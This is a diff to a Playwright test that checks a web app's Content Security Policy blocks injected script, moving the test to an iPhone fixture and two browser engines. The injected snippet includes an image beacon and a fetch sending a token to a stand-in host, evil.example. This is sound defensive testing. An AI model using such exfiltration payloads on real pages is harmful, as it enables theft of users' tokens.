@@ -2,11 +2,17 @@
 
 The whole two-phone flow runs under the app's policy without a single violation (the
 ``pixel``/``iphone`` fixtures fail a test on any console error); here: the policy does
-block what an injected script would do, and the API reference at /docs works under its own.
+block what an injected script would do (in Chromium and WebKit), and the API reference at
+/docs works under its own (Chromium).
 """
 
 from __future__ import annotations
 
+import re
+
+import pytest
+from phone import Phone
+from phone import expect as expect_on_phone
 from playwright.sync_api import Browser, Page, expect
 
 
@@ -19,15 +25,15 @@ def violations(page: Page) -> list[str]:
     return found
 
 
+@pytest.mark.engines("chromium", "webkit")
+@pytest.mark.expected_console_errors("Content Security Policy|Refused to|failed to load")
 def test_the_app_runs_no_injected_script_and_talks_to_no_other_site(
-    browser: Browser, server: str
+    iphone: Phone, server: str
 ) -> None:
-    page = browser.new_page()
-    blocked = violations(page)
-    page.goto(f"{server}/")
-    expect(page.get_by_test_id("start")).to_be_visible()
+    iphone.goto(f"{server}/")
+    expect_on_phone(iphone.get_by_test_id("start")).to_be_visible()
     # What a script slipped into the page (say, through a photo's file name) would try.
-    page.evaluate(
+    iphone.evaluate(
         """() => {
             const inline = document.createElement("script");
             inline.textContent = "window.injected = true";
@@ -35,19 +41,17 @@ def test_the_app_runs_no_injected_script_and_talks_to_no_other_site(
             const beacon = new Image();
             beacon.src = "https://evil.example/steal?token=secret";
             document.body.append(beacon);
-            return fetch("https://evil.example/steal").catch(() => null);
+            fetch("https://evil.example/steal").catch(() => null);
         }"""
     )
-    assert page.evaluate("() => window.injected") is None
-    for _ in range(50):  # the reports arrive asynchronously
-        joined = "\n".join(blocked)
-        if all(f"{kind}-src" in joined for kind in ("script", "img", "connect")):
-            break
-        page.wait_for_timeout(100)
-    assert "script-src" in joined
-    assert "img-src" in joined
-    assert "connect-src" in joined
-    page.close()
+    assert iphone.evaluate("() => window.injected") is None
+
+    def blocked(kind: str) -> bool:  # the reports arrive asynchronously
+        policy = [e for e in iphone.console_errors() if re.search("Content Security Policy", e)]
+        return any(f"{kind}-src" in error for error in policy)
+
+    for kind in ("script", "img", "connect"):
+        iphone.wait_for(lambda kind=kind: blocked(kind), f"the policy to block {kind}-src")
 
 
 def test_the_api_reference_works_under_its_own_policy(browser: Browser, server: str) -> None:
